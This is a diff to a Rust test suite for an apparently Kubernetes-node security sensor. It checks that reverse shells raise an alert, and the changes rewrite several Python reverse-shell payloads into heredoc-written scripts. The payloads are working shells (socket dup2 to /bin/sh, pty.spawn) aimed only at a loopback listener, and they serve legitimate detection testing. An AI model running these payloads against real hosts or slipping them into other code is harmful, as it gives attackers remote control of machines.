@@ -1,7 +1,7 @@
 //! Reverse shells in many forms, each to a real listener on loopback in its own network.
 
 use anyhow::{Result, ensure};
-use vigie_tests::{Alert, Place, Root, Workload, live, shared};
+use vigie_tests::{Alert, Place, Root, Workload, shared};
 
 const ALERT: &str = "K8S.NODE_ReverseShell";
 
@@ -44,30 +44,31 @@ fn to_listener(alert: &Alert) -> bool {
         .is_some_and(|peer| peer.address.as_deref() == Some("127.0.0.1") && peer.port == Some(4444))
 }
 
-/// The command must raise the alert, and the alert must show the listener.
+/// The command must raise the alert, and the alert must show the listener. Python programs are in
+/// files: only what their shells are wired to gives them away.
 fn check(test: &str, command: &str) -> Result<()> {
-    if !live(test) {
+    let Some(sensor) = shared::live(test)? else {
         return Ok(());
-    }
+    };
     for place in Place::BOTH {
         let outcome = run(place, ORDERS, command)?;
         ensure!(
             outcome.stdout.contains("uid=0(root)"),
             "the shell did not work: {outcome:?}"
         );
-        shared::expect(shared::sensor()?, &outcome, ALERT, to_listener)?;
+        shared::expect(sensor, &outcome, ALERT, to_listener)?;
     }
     Ok(())
 }
 
 /// The command must not raise the alert.
 fn check_benign(test: &str, answer: &str, command: &str) -> Result<()> {
-    if !live(test) {
+    let Some(sensor) = shared::live(test)? else {
         return Ok(());
-    }
+    };
     for place in Place::BOTH {
         let outcome = run(place, answer, &format!("{command}\n{}", shared::MARK))?;
-        shared::expect_none(shared::sensor()?, &outcome, ALERT, "K8S.NODE_EICAR")?;
+        shared::expect_none(sensor, &outcome, ALERT, "K8S.NODE_EICAR")?;
     }
     Ok(())
 }
@@ -87,25 +88,25 @@ fn bash_reads_orders_from_a_descriptor() -> Result<()> {
 
 #[test]
 fn python() -> Result<()> {
-    let command = "python3 -c 'import socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
-                   for f in (0,1,2): os.dup2(s.fileno(),f)\nos.execl(\"/bin/sh\",\"sh\",\"-i\")'";
+    let command = "cat > /tmp/a.py <<'.'\nimport socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
+                   for f in (0,1,2): os.dup2(s.fileno(),f)\nos.execl(\"/bin/sh\",\"sh\",\"-i\")\n.\npython3 /tmp/a.py";
     check("python", command)
 }
 
 #[test]
 fn python_with_pipes() -> Result<()> {
-    let command = "python3 -c 'import socket,subprocess\n\
+    let command = "cat > /tmp/a.py <<'.'\nimport socket,subprocess\n\
                    s=socket.create_connection((\"127.0.0.1\",4444))\n\
                    p=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE)\n\
-                   s.sendall(p.communicate(s.recv(99))[0])'";
+                   s.sendall(p.communicate(s.recv(99))[0])\n.\npython3 /tmp/a.py";
     check("python_with_pipes", command)
 }
 
 #[test]
 fn python_with_a_terminal() -> Result<()> {
-    let command = "python3 -c 'import socket,os,pty\n\
+    let command = "cat > /tmp/a.py <<'.'\nimport socket,os,pty\n\
                    s=socket.create_connection((\"127.0.0.1\",4444))\n\
-                   for f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn(\"/bin/sh\")'";
+                   for f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn(\"/bin/sh\")\n.\npython3 /tmp/a.py";
     check("python_with_a_terminal", command)
 }
 
@@ -180,8 +181,8 @@ fn a_metric_is_no_shell() -> Result<()> {
 
 #[test]
 fn a_program_on_a_socket_is_no_shell() -> Result<()> {
-    let command = "python3 -c 'import socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
-                   os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execlp(\"date\",\"date\")'";
+    let command = "cat > /tmp/a.py <<'.'\nimport socket,os\ns=socket.create_connection((\"127.0.0.1\",4444))\n\
+                   os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execlp(\"date\",\"date\")\n.\npython3 /tmp/a.py";
     check_benign("a_program_on_a_socket_is_no_shell", "", command)
 }
 
